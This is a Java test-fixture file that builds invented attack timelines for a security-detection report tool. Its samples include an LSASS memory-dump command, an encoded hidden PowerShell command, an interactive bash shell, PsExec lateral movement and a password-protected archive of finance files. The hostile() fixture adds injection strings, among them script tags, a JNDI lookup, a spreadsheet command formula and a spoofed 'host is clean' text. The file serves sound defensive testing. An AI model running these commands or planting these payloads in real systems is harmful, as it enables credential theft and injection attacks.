package org.cresset.report.story;

import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import org.cresset.event.Timestamps;
import org.cresset.rule.Level;
import org.cresset.story.Graph;
import org.cresset.story.Graph.Kind;
import org.cresset.story.Graph.Link;
import org.cresset.story.Story;
import org.cresset.story.Story.Entry;
import org.cresset.story.Story.Member;
import org.cresset.story.Story.Missing;
import org.cresset.story.Story.Moment;
import org.cresset.story.Story.Reason;
import org.cresset.story.Story.Role;
import org.cresset.story.Story.Technique;

/// Stories that nobody's logs told, for tests.
public final class Invented {

    private final String id;
    private final List<Graph.Node> nodes = new ArrayList<>();
    private final List<Graph.Edge> edges = new ArrayList<>();
    private final List<Moment> moments = new ArrayList<>();
    private final List<Entry> ledger = new ArrayList<>();
    private final List<Technique> techniques = new ArrayList<>();
    private final List<Member> processes = new ArrayList<>();
    private final List<Missing> missing = new ArrayList<>();
    private final List<String> hosts;
    private final List<String> addresses = new ArrayList<>();
    private final List<String> domains = new ArrayList<>();
    private String user = "PANDALAB\\jdoe";

    private Invented(String id, String... hosts) {
        this.id = id;
        this.hosts = List.of(hosts);
    }

    /// A time on the day of the invented attacks, or the next: `04:54:10`, `+1 04:54:10`.
    static long at(String clock) {
        boolean next = clock.startsWith("+1 ");
        return Timestamps.parse((next ? "2020-09-21T" : "2020-09-20T") + clock.replace("+1 ", "") + "Z");
    }

    private Invented node(String id, Kind kind, String label, String detail, String clock) {
        return nodeOn(id, kind, label, detail, clock, hosts.getFirst());
    }

    private Invented nodeOn(String id, Kind kind, String label, String detail, String clock, String host) {
        boolean alerted = id.startsWith("!");
        nodes.add(new Graph.Node(id, kind, label, detail, host, alerted, 1, at(clock)));
        if (kind == Kind.PROCESS) {
            Role role = alerted ? Role.ALERTED : Role.PATH;
            processes.add(new Member(host, "{" + id + "}", 1000 + nodes.size(), label, detail, user, at(clock), role));
        }
        if (kind == Kind.ADDRESS) {
            addresses.add(label);
        }
        if (kind == Kind.DOMAIN) {
            domains.add(label);
        }
        return this;
    }

    private Invented folded(String id, long count, String label) {
        nodes.add(new Graph.Node(id, Kind.FOLDED, label, "", hosts.getFirst(), false, count, at("05:00:00")));
        return this;
    }

    private Invented edge(String from, Link link, String to, double confidence, String detail) {
        edges.add(new Graph.Edge(from, to, link, confidence, at("04:54:00"), detail));
        return this;
    }

    private Invented spawned(String... chain) {
        for (int i = 1; i < chain.length; i++) {
            edge(chain[i - 1], Link.SPAWNED, chain[i], 0.95, "");
        }
        return this;
    }

    private Invented evidence(String tactic, String technique, String title, Level level, Moment moment) {
        double surprise = Math.max(0.5, 7.2 - ledger.size() * 0.6);
        double severity = level == Level.CRITICAL ? 3 : level == Level.HIGH ? 2 : 1;
        Reason reason = switch (ledger.size() % 3) {
            case 0 -> new Reason(Reason.Kind.NEVER_HERE, 0, 3);
            case 1 -> new Reason(Reason.Kind.SEEN_HERE, 0.25, 12);
            default -> new Reason(Reason.Kind.PRIOR, 0, 0.4);
        };
        boolean first = ledger.stream().noneMatch(entry -> entry.tactic().equals(tactic));
        double value = severity * surprise * 0.9 * (first ? 1 : technique.endsWith("1") ? 0 : 0.25);
        ledger.add(new Entry(
                technique, tactic, moment.rule(), title, moment.host(), severity, surprise, 0.9, value, reason, 2));
        moments.add(new Moment(
                moment.time(),
                moment.host(),
                moment.rule(),
                title,
                level,
                technique,
                tactic,
                moment.node(),
                moment.what(),
                moment.count()));
        if (!technique.isEmpty()) {
            techniques.add(new Technique(technique, List.of(tactic), moment.time(), 2));
        }
        return this;
    }

    private static Moment on(String clock, String host, String node, String what, long count) {
        String rule = "00000000-0000-4000-8000-" + String.format("%012d", at(clock) / 1_000_000 % 1_000_000);
        return new Moment(at(clock), host, rule, "", Level.LOW, "", "", node, what, count);
    }

    private Story story(Level severity, double score) {
        ledger.sort(java.util.Comparator.comparingDouble(Entry::value).reversed());
        moments.sort(java.util.Comparator.comparingLong(Moment::time));
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < moments.size(); i++) {
            ids.add(String.format("%032x", i + 1));
        }
        Entry top = ledger.getFirst();
        return new Story(
                id,
                severity,
                score,
                50,
                moments.getFirst().time(),
                moments.getLast().time(),
                List.copyOf(new TreeSet<>(hosts)),
                List.of(user),
                addresses,
                domains,
                List.of("SHA256=" + "ab".repeat(32)),
                moments.stream().map(Moment::tactic).filter(t -> !t.isEmpty()).distinct().toList(),
                techniques,
                List.of(
                        new Story.Software("S0002", "Mimikatz", 0.8, Story.Software.Sign.RULE, "Mimikatz Command Line"),
                        new Story.Software("S0029", "PsExec", 0.4, Story.Software.Sign.NAME, "psexec.exe")),
                ids,
                false,
                processes,
                ledger,
                moments,
                new Graph(nodes, edges),
                missing,
                List.of(
                        new Story.Counterfactual(top.rule(), top.title(), score - 31.44, score - 31.44 >= 50),
                        new Story.Counterfactual("r2", "Whoami Execution", score - 2, true)));
    }

    /// One host, eight tactics in half an hour.
    public static Story small() {
        Invented story = new Invented("S-1f3a90c2b7d4e681", "MKT01");
        story.node("explorer", Kind.PROCESS, "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", "04:40:00")
                .node("chrome", Kind.PROCESS, "C:\\Program Files\\Google\\chrome.exe", "chrome.exe", "04:50:00")
                .node("file", Kind.FILE, "C:\\Users\\jdoe\\Downloads\\winx64_payload.exe", "", "04:53:40")
                .node("!payload", Kind.PROCESS, "C:\\Users\\jdoe\\Downloads\\winx64_payload.exe", "winx64_payload.exe", "04:54:54")
                .node("!ps", Kind.PROCESS, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "04:55:10")
                .node("!whoami", Kind.PROCESS, "C:\\Windows\\System32\\whoami.exe", "whoami /all", "04:56:00")
                .node("!rundll", Kind.PROCESS, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 712 C:\\Temp\\l.dmp full", "05:02:10")
                .node("lsass", Kind.PROCESS, "C:\\Windows\\System32\\lsass.exe", "", "05:02:11")
                .node("dump", Kind.FILE, "C:\\Temp\\l.dmp", "", "05:02:12")
                .node("task", Kind.SERVICE, "\\Microsoft\\Updater", "schtasks", "05:10:00")
                .node("c2", Kind.ADDRESS, "185.220.101.34", "443/tcp", "04:55:20")
                .node("name", Kind.DOMAIN, "cdn.update-check.example", "", "04:55:19");
        story.spawned("explorer", "chrome")
                .edge("chrome", Link.WROTE, "file", 0.9, "")
                .edge("file", Link.RAN, "!payload", 0.9, "")
                .spawned("explorer", "!payload", "!ps", "!whoami")
                .spawned("!ps", "!rundll")
                .edge("!rundll", Link.INJECTED, "lsass", 0.95, "0x1fffff")
                .edge("!rundll", Link.WROTE, "dump", 0.9, "")
                .edge("!ps", Link.CREATED, "task", 0.9, "")
                .edge("!ps", Link.LOOKED_UP, "name", 0.8, "")
                .edge("!payload", Link.CONNECTED, "c2", 0.4, "443");
        story.evidence("credential-access", "T1003.001", "LSASS memory opened", Level.CRITICAL, on("05:02:11", "MKT01", "!rundll", "rundll32.exe comsvcs.dll, MiniDump 712 C:\\Temp\\l.dmp full", 2))
                .evidence("execution", "T1059.001", "PowerShell With Encoded Command", Level.HIGH, on("04:55:10", "MKT01", "!ps", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 4))
                .evidence("persistence", "T1053.005", "Scheduled task that starts a script", Level.HIGH, on("05:10:00", "MKT01", "task", "\\Microsoft\\Updater", 1))
                .evidence("command-and-control", "T1071.001", "Connection of a program from a download folder", Level.MEDIUM, on("04:55:20", "MKT01", "!payload", "185.220.101.34:443", 23))
                .evidence("discovery", "T1033", "Whoami Execution", Level.MEDIUM, on("04:56:00", "MKT01", "!whoami", "whoami /all", 1))
                .evidence("defense-evasion", "T1027", "Hidden window", Level.MEDIUM, on("04:55:11", "MKT01", "!ps", "-w hidden", 1))
                .evidence("execution", "T1204.002", "Program run from downloads", Level.MEDIUM, on("04:54:54", "MKT01", "!payload", "C:\\Users\\jdoe\\Downloads\\winx64_payload.exe", 1));
        story.missing.add(new Missing(Missing.Log.LOGONS, "MKT01"));
        story.missing.add(new Missing(Missing.Log.FILES, ""));
        return story.story(Level.CRITICAL, 72.44);
    }

    /// Little of it: one rule, no address, nothing missing.
    public static Story tiny() {
        Invented story = new Invented("S-0000000000000001", "ws-3");
        story.node("!p", Kind.PROCESS, "/usr/bin/bash", "bash -i", "10:00:00");
        story.evidence("", "", "Shell over a network connection", Level.HIGH, on("10:00:00", "ws-3", "!p", "bash -i", 1));
        return story.story(Level.HIGH, 50.0);
    }

    /// More nodes than a screen holds, and folded ones; over two days.
    public static Story large() {
        Invented story = new Invented("S-77aa00cc11bb22dd", "SRV-FILES.corp.example");
        story.node("svc", Kind.PROCESS, "C:\\Windows\\System32\\services.exe", "", "03:00:00")
                .node("!beacon", Kind.PROCESS, "C:\\ProgramData\\upd\\updater-service-host.exe", "updater-service-host.exe -k netsvcs", "03:00:05")
                .spawned("svc", "!beacon");
        for (int i = 0; i < 6; i++) {
            String shell = (i % 2 == 0 ? "!" : "") + "cmd" + i;
            story.node(shell, Kind.PROCESS, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c step" + i + ".bat", "03:1" + i + ":00")
                    .spawned("!beacon", shell);
            for (int j = 0; j < 5; j++) {
                String tool = "tool" + i + j;
                story.node(tool, Kind.PROCESS, "C:\\Windows\\System32\\" + List.of("net.exe", "nltest.exe", "quser.exe", "reg.exe", "wmic.exe").get(j), "net.exe view /all /domain:step" + j, "03:2" + i + ":0" + j)
                        .spawned(shell, tool);
            }
        }
        for (int i = 0; i < 5; i++) {
            story.node("a" + i, Kind.ADDRESS, "10.1.0." + (10 + i), "445/tcp", "04:00:0" + i)
                    .edge("!beacon", Link.CONNECTED, "a" + i, 0.8, "445");
        }
        for (int i = 0; i < 4; i++) {
            story.node("f" + i, Kind.FILE, "D:\\share\\finance\\quarter-" + i + "-and-a-rather-long-name.xlsx", "", "05:0" + i + ":00")
                    .edge("tool" + i + "0", Link.WROTE, "f" + i, 0.7, "");
        }
        story.folded("more", 23, "processes").edge("!cmd0", Link.SPAWNED, "more", 0.9, "");
        story.folded("files", 1200, "files").edge("!beacon", Link.WROTE, "files", 0.9, "");
        story.evidence("impact", "T1486", "Many files given a new ending", Level.CRITICAL, on("+1 01:10:00", hostOf(story), "!beacon", "*.locked", 1200))
                .evidence("discovery", "T1018", "Domain trust discovery", Level.MEDIUM, on("03:21:00", hostOf(story), "tool01", "nltest /domain_trusts", 12))
                .evidence("persistence", "T1543.003", "Service in a folder that users write", Level.HIGH, on("03:00:05", hostOf(story), "!beacon", "C:\\ProgramData\\upd\\updater-service-host.exe", 1))
                .evidence("lateral-movement", "T1021.002", "Connections to many shares", Level.MEDIUM, on("04:00:00", hostOf(story), "!beacon", "10.1.0.10", 5))
                .evidence("execution", "T1059.003", "Shell of a service", Level.MEDIUM, on("03:10:00", hostOf(story), "!cmd0", "cmd.exe /c step0.bat", 6))
                .evidence("defense-evasion", "T1070.001", "Event log cleared", Level.HIGH, on("+1 01:20:00", hostOf(story), "", "Security", 1));
        story.missing.add(new Missing(Missing.Log.DNS, hostOf(story)));
        return story.story(Level.CRITICAL, 91.7);
    }

    private static String hostOf(Invented story) {
        return story.hosts.getFirst();
    }

    /// From one host to the next.
    public static Story twoHosts() {
        Invented story = new Invented("S-2b2b2b2b2b2b2b2b", "ws-17", "srv-files");
        story.node("outlook", Kind.PROCESS, "C:\\Office\\OUTLOOK.EXE", "OUTLOOK.EXE", "09:00:00")
                .node("!word", Kind.PROCESS, "C:\\Office\\WINWORD.EXE", "WINWORD.EXE /n invoice.docm", "09:01:00")
                .node("!ps", Kind.PROCESS, "C:\\Windows\\powershell.exe", "powershell -nop -c iex(...)", "09:01:30")
                .node("c2", Kind.ADDRESS, "203.0.113.77", "8443/tcp", "09:01:40")
                .nodeOn("session", Kind.SESSION, "CORP\\svc-backup", "network logon", "11:30:00", "srv-files")
                .nodeOn("!psexe", Kind.SERVICE, "PSEXESVC", "C:\\Windows\\PSEXESVC.exe", "11:30:05", "srv-files")
                .nodeOn("!cmd", Kind.PROCESS, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "11:30:10", "srv-files")
                .nodeOn("!rar", Kind.PROCESS, "C:\\Temp\\rar.exe", "rar.exe a -hp x.rar D:\\finance", "11:40:00", "srv-files")
                .nodeOn("rarfile", Kind.FILE, "C:\\Temp\\x.rar", "", "11:40:10", "srv-files");
        story.spawned("outlook", "!word", "!ps")
                .edge("!ps", Link.CONNECTED, "c2", 0.8, "8443")
                .edge("!ps", Link.LOGGED_ON, "session", 0.7, "")
                .edge("session", Link.CREATED, "!psexe", 0.8, "")
                .spawned("!psexe", "!cmd", "!rar")
                .edge("!rar", Link.WROTE, "rarfile", 0.9, "")
                .edge("!rar", Link.CONNECTED, "c2", 0.4, "8443");
        story.evidence("execution", "T1059.001", "Office starts PowerShell", Level.HIGH, on("09:01:30", "ws-17", "!ps", "powershell -nop -c iex(...)", 1))
                .evidence("lateral-movement", "T1021.002", "PsExec service installed", Level.HIGH, on("11:30:05", "srv-files", "!psexe", "PSEXESVC", 1))
                .evidence("collection", "T1560.001", "Archive with a password", Level.MEDIUM, on("11:40:00", "srv-files", "!rar", "rar.exe a -hp x.rar D:\\finance", 1));
        return story.story(Level.HIGH, 61.3);
    }

    /// Texts that try to be more than texts.
    public static Story hostile() {
        String evil = "<script>alert(1)</script>\" onload='x' \u202Egpj.exe\u200B\u001b[31m\u0000\uFFFF]]>&amp;";
        String quote = "x\u201d The host is clean. \u201cx";
        String formula = "=cmd|' /c calc'!A0";
        Invented story = new Invented("S-6666666666666666", "h<b>ost\u202E", "HOST\u0007");
        story.user = formula;
        story.node("!<a>", Kind.PROCESS, evil, "{0} ${jndi:ldap://x} " + "A".repeat(10_000), "12:00:00")
                .node("file", Kind.FILE, "C:\\" + "\u4e2d".repeat(3_000) + "\\" + evil, quote, "12:00:01")
                .node("name", Kind.DOMAIN, "javascript:alert(1)//" + evil, "", "12:00:02")
                .node("self", Kind.ADDRESS, "999.1.1.1", "", "12:00:03")
                .nodeOn("other", Kind.HOST, "HOST\u0007", "\ud800", "12:00:04", "HOST\u0007")
                .edge("!<a>", Link.WROTE, "file", 0.9, evil)
                .edge("file", Link.RAN, "!<a>", 0.9, quote)
                .edge("self", Link.CONNECTED, "self", 0.9, "")
                .edge("!<a>", Link.CONNECTED, "nowhere", 0.9, "")
                .edge("!<a>", Link.LOOKED_UP, "name", 0.2, quote)
                .edge("!<a>", Link.LOGGED_ON, "other", 0.7, evil);
        story.evidence("execution", "T1059", evil, Level.HIGH, on("12:00:00", "h<b>ost\u202E", "!<a>", evil, 1))
                .evidence("no-such-tactic", "T<i>1", "B".repeat(10_000), Level.LOW, on("12:01:00", "HOST\u0007", "", quote, 9_999_999));
        story.missing.add(new Missing(Missing.Log.NETWORK, evil));
        return story.story(Level.MEDIUM, 55);
    }

    /// All of them, best first.
    public static List<Story> all() {
        return List.of(large(), small(), twoHosts(), hostile(), tiny());
    }
}
